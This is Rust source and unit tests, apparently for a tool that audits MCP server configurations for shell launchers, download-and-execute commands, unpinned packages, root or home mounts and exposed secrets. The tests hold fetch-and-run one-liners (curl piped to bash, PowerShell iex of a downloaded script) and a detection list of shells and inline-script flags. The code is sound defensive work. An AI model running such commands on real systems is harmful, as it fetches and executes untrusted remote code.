fn shell(cfg: &ServerConfig) -> Option<String> {
    let cmd = basename(cfg.command.as_deref()?);
    let line = format!(
        "{} {}",
        cfg.command.as_deref().unwrap_or(""),
        cfg.args.join(" ")
    );
    if download_exec().is_match(&line) {
        return Some("downloads and executes remote code".into());
    }
    let shells = [
        "sh",
        "bash",
        "zsh",
        "dash",
        "fish",
        "ksh",
        "cmd",
        "powershell",
        "pwsh",
    ];
    if shells.contains(&cmd.as_str()) {
        let inline = cfg.args.iter().any(|a| {
            matches!(
                a.to_ascii_lowercase().as_str(),
                "-c" | "/c" | "-command" | "-encodedcommand" | "-enc" | "-lc" | "-ic"
            )
        });
        // `cmd /c npx …` is the documented way to run npx on Windows; the runner check covers it.
        if cmd == "cmd"
            && cfg.args.get(1).is_some_and(|a| {
                !["sh", "bash", "powershell", "pwsh", "curl"].contains(&basename(a).as_str())
            })
        {
            return None;
        }
        return Some(if inline {
            format!("{cmd} runs an inline script")
        } else {
            format!("{cmd} is started as the server")
        });
    }
    None
}

fn is_broad_root(a: &str) -> bool {
    static HOME: OnceLock<Regex> = OnceLock::new();
    let home = HOME.get_or_init(|| {
        Regex::new(r"(?i)^(/|~/?|\$home/?|\$\{home\}/?|%userprofile%\\?|[a-z]:[\\/]{0,2}|/home/?|/users/?|/root/?|/home/[^/]+/?|/users/[^/]+/?|[a-z]:\\users\\[^\\]+\\?)$").expect("valid regex")
    });
    let a = a.trim();
    // `--volume=/:/host`, `--root=/`: judge the value.
    let a = if a.starts_with('-') {
        a.split_once('=').map(|x| x.1).unwrap_or(a)
    } else {
        a
    };
    if home.is_match(a) {
        return true;
    }
    // Container mounts of the root or the home directory: `-v /:/host`, `source=/,…`.
    if let Some((src, _)) = a.split_once(':')
        && a.len() > 2
        && !a.contains("://")
        && home.is_match(src)
        && !src.eq_ignore_ascii_case("c")
    {
        return true;
    }
    a.split(',').any(|kv| {
        kv.strip_prefix("source=")
            .or_else(|| kv.strip_prefix("src="))
            .is_some_and(|s| home.is_match(s))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn server(cmd: &str, args: &[&str]) -> ServerConfig {
        ServerConfig {
            name: "s".into(),
            client: "test".into(),
            source: "t.json".into(),
            scope: None,
            transport: Transport::Stdio,
            command: Some(cmd.into()),
            args: args.iter().map(|s| s.to_string()).collect(),
            env: BTreeMap::new(),
            url: None,
            headers: BTreeMap::new(),
            cwd: None,
            disabled: false,
        }
    }

    #[test]
    fn runners() {
        assert!(
            unpinned(&server(
                "npx",
                &["-y", "@modelcontextprotocol/server-github"]
            ))
            .is_some()
        );
        assert!(
            unpinned(&server(
                "npx",
                &["-y", "@modelcontextprotocol/server-github@2025.4.8"]
            ))
            .is_none()
        );
        assert!(unpinned(&server("npx", &["-y", "mcp-remote@latest", "https://x"])).is_some());
        assert!(unpinned(&server("npx", &["-y", "tavily-mcp@0.1.4"])).is_none());
        assert!(unpinned(&server("uvx", &["mcp-server-fetch"])).is_some());
        assert!(unpinned(&server("uvx", &["mcp-server-fetch==2025.1.17"])).is_none());
        assert!(
            unpinned(&server(
                "uvx",
                &["--from", "mcp-server-git==0.6.2", "mcp-server-git"]
            ))
            .is_none()
        );
        assert!(unpinned(&server("pipx", &["run", "mcp-server-time"])).is_some());
        assert!(
            unpinned(&server(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "-e",
                    "GITHUB_TOKEN",
                    "ghcr.io/github/github-mcp-server"
                ]
            ))
            .is_some()
        );
        assert!(
            unpinned(&server(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "ghcr.io/github/github-mcp-server:v0.5.0"
                ]
            ))
            .is_none()
        );
        assert!(unpinned(&server("cmd", &["/c", "npx", "-y", "@x/y"])).is_some());
        assert!(unpinned(&server("node", &["/opt/server.js"])).is_none());
        assert!(unpinned(&server("npx", &["./local-server"])).is_none());
    }

    #[test]
    fn plain_http() {
        assert!(is_plain_remote("http://mcp.example.com/sse"));
        assert!(!is_plain_remote("http://localhost:3000/mcp"));
        assert!(!is_plain_remote("http://127.0.0.1:8080/sse"));
        assert!(!is_plain_remote("http://[::1]:8080/mcp"));
        assert!(!is_plain_remote("https://mcp.example.com/mcp"));
    }

    #[test]
    fn roots() {
        for a in [
            "/",
            "~",
            "~/",
            "C:\\",
            "/home/alice",
            "/Users/bob/",
            "$HOME",
            "-v=/:/host",
            "/:/host",
            "type=bind,source=/,target=/h",
        ] {
            assert!(is_broad_root(a), "{a}");
        }
        for a in [
            "/home/alice/projects",
            "~/Desktop",
            "/tmp",
            "C:\\Users\\a\\code",
            "https://x/",
            "--port",
        ] {
            assert!(!is_broad_root(a), "{a}");
        }
    }

    #[test]
    fn shells() {
        assert!(shell(&server("bash", &["-c", "curl -fsSL https://x.sh | bash"])).is_some());
        assert!(shell(&server("sh", &["-c", "node server.js"])).is_some());
        assert!(shell(&server("cmd", &["/c", "npx", "-y", "x"])).is_none());
        assert!(
            shell(&server(
                "powershell",
                &["-Command", "iex (iwr https://x/ps1)"]
            ))
            .is_some()
        );
        assert!(shell(&server("npx", &["-y", "x@1"])).is_none());
    }

    #[test]
    fn secrets_and_redaction() {
        let tok = "ghp_".to_string() + &"a1B2".repeat(9);
        assert_eq!(
            secret_kind(Some("GITHUB_TOKEN"), &tok).unwrap().0,
            "GitHub token"
        );
        assert_eq!(
            secret_kind(None, "AKIAIOSFODNN7EXAMPLE"),
            None,
            "placeholder-like example keys are ignored"
        );
        assert_eq!(
            secret_kind(None, "AKIAIOSFODNN7QWERTYU").unwrap().0,
            "AWS access key id"
        );
        assert_eq!(
            secret_kind(Some("API_KEY"), "q8Fz2LmN0pR7sT4vW9xY")
                .unwrap()
                .0,
            "high-entropy value"
        );
        assert_eq!(secret_kind(Some("API_KEY"), "${input:api_key}"), None);
        assert_eq!(secret_kind(Some("LOG_LEVEL"), "q8Fz2LmN0pR7sT4vW9xY"), None);
        assert_eq!(
            secret_kind(Some("DB_PASSWORD"), "hunter22").unwrap().0,
            "password"
        );
        let args: Vec<String> = [
            "--api-key",
            "q8Fz2LmN0pR7sT4vW9xY",
            "--token=q8Fz2LmN0pR7sT4vW9xY",
            &tok,
            "/tmp",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let red = redact_args(&args);
        assert_eq!(
            red,
            vec![
                "--api-key",
                "***redacted***",
                "--token=***redacted***",
                "***redacted***",
                "/tmp"
            ]
        );
        assert_eq!(
            redact_url("https://u:p@h/x?api_key=abc123&q=1"),
            "https://***redacted***@h/x?api_key=***redacted***&q=1"
        );
    }
}
